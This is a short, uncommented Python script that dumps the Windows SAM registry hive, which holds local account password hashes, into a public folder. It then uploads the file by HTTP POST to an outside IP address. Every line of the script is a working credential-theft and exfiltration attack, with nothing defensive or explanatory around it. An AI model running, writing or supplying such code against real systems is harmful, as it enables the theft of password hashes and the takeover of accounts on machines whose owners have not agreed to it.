import os, subprocess, requests
subprocess.run("reg save HKLM\\SAM C:\\Users\\Public\\s.hiv /y", shell=True)
requests.post("http://198.51.100.51/u", files={"f": open("C:\\Users\\Public\\s.hiv", "rb")})
